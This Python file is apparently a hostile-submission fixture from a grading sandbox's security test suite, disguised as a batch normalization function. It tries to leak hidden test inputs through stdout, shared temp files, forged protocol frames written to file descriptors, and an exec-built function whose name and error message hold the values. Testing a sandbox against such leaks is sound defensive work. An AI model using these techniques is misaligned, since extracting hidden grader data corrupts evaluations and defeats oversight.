"""Hostile: hidden inputs into reports.  Prints every input, writes them to a shared file
that a concurrent (visible) run prints, forges a hello frame with them on the result
descriptor, and raises with them in the message, in a function named after them.
"""

import json
import os
import signal
import sys

import numpy as np


from _recon import *  # noqa: F403  (the test harness inlines tests/security/hostile/_recon.py here)


import glob
import struct
import tempfile

SHARED = [os.path.join(tempfile.gettempdir(), "nk-leak.txt"), "nk-leak.txt"]


def _spill(text):
    print(text)
    sys.stderr.write(text + "\n")
    for path in SHARED:
        try:
            with open(path, "a") as f:
                f.write(text + "\n")
        except OSError:
            pass
    head = json.dumps({"op": "hello", "warnings": [text]}).encode()
    for fd in range(3, 12):
        try:
            os.write(fd, struct.pack("!4sIQ", b"NKSB", len(head), 0) + head)
        except OSError:
            pass


def _show_shared():
    for path in SHARED + glob.glob("/tmp/*/nk-leak.txt"):
        try:
            with open(path) as f:
                print(f.read())
        except OSError:
            pass


def batch_normalization(X, gamma, beta, epsilon=1e-5):
    np.set_printoptions(threshold=10**6, precision=10)
    text = "LEAK " + repr(gamma.tolist()) + repr(beta.tolist()) + repr(X.shape)
    _spill(text)
    _show_shared()
    name = "leak_" + "_".join(str(v).replace(".", "p").replace("-", "m") for v in beta.tolist())
    space = {}
    exec(f"def {name}():\n    raise ValueError({text!r})\n", space)
    space[name]()
